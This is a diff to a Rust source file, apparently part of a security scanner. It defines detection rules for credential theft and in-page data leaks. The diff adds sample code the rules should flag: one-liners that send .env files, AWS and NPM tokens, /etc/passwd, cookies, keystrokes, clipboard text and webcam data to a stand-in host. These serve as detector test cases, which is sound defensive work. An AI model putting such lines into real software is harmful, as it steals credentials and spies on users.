@@ -36,6 +36,10 @@ pub static CREDENTIALS: Rule = Rule {
     why: "credentials of the machine or of its owner are sent away",
     remedy: "use the service's own library, which keeps its key to itself",
     finds: &[
+        (
+            "x.js",
+            "const fs = require('fs'); fetch('https://c.example.net', { method: 'POST', body: fs.readFileSync('.env') })",
+        ),
         ("x.js", "fetch('https://c.example.net/?k=' + process.env.AWS_SECRET_ACCESS_KEY)"),
         ("x.py", "import os, requests\nrequests.post('https://c.example.net', data={'k': os.getenv('NPM_TOKEN')})"),
         ("x.sh", "curl -F f=@/etc/passwd https://c.example.net"),
@@ -52,6 +56,18 @@ pub static PAGE: Rule = Rule {
     why: "what a visitor types or is known by goes to somebody else",
     remedy: "send it to the app's own server only",
     finds: &[
+        (
+            "x.js",
+            "let b = ''; addEventListener('keydown', ({ key }) => { b += key; navigator.sendBeacon('https://c.example.net', b); });",
+        ),
+        (
+            "x.js",
+            "navigator.mediaDevices.getUserMedia({ video: true }).then(show); fetch('https://c.example.net', { method: 'POST', body: shot })",
+        ),
+        (
+            "x.js",
+            "addEventListener('paste', (e) => fetch('https://c.example.net', { method: 'POST', body: e.clipboardData.getData('text') }));",
+        ),
         ("x.js", "new Image().src = 'https://c.example.net/?c=' + document.cookie"),
         ("x.js", "fetch('https://c.example.net', { method: 'POST', body: JSON.stringify(localStorage) })"),
         (
